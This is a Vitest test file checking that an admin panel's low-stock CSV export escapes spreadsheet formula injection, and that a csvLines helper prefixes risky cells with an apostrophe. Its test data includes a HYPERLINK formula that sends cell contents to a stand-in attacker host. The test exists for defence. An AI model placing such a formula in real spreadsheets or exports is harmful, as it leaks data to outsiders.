import { eq } from "drizzle-orm";
import { describe, expect, it, vi } from "vitest";
import { transaction, type Db } from "@/db/connection";
import { listLowStock } from "@/db/queries/low-stock";
import { products } from "@/db/schema";
import { csvLines } from "@/lib/csv";
import { tempDb } from "./temp-db";

// The export route itself, on this test's database, as a signed-in admin.
let db: Db;
vi.mock("@/server/db", () => ({ getDb: async () => db }));
vi.mock("@/server/auth/guard", () => ({ requireResource: async () => ({ id: 1, username: "admin" }) }));
const { GET } = await import("@/app/admin/(shell)/reports/report_product/exportLowstockCsv/route");

const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

describe("Low Stock CSV export (issue 12: formula injection)", () => {
  it("writes a product named like a formula as text a spreadsheet will not run", async () => {
    db = await tempDb();
    const [first] = await listLowStock(db, { limit: 1 });
    expect(first).toBeDefined();
    await transaction(db, (tx) => tx.update(products).set({ name: HOSTILE }).where(eq(products.id, first.productId)));

    const csv = await (await GET()).text();
    const line = csv.split("\n").find((l) => l.includes("HYPERLINK"));
    // A leading ' and the CSV quoting of the name's own quotes: the cell reads as text.
    expect(line).toBe(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",${first.sku},${first.quantity},${first.sourceCode}`);
    expect(csv.split("\n")[0]).toBe("Product,SKU,Quantity,Source Code");
  });
});

describe("csvLines", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+31 20 555 0100", "'+31 20 555 0100"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\tTabbed", "'\tTabbed"],
    ["\rCR", `"'\rCR"`],
    ["＝1+1", "'＝1+1"],
    ["Plain tee", "Plain tee"],
    ["SR-CAP", "SR-CAP"],
  ])("the text cell %j is written %j", (cell, written) => {
    expect(csvLines([[cell]])).toBe(`${written}\n`);
  });

  it("keeps numbers numbers: a negative quantity stays -5, not '-5", () => {
    expect(csvLines([["SR-CAP", -5, 2.5, 0]])).toBe("SR-CAP,-5,2.5,0\n");
    expect(csvLines([["-5"]])).toBe("'-5\n");
  });
});
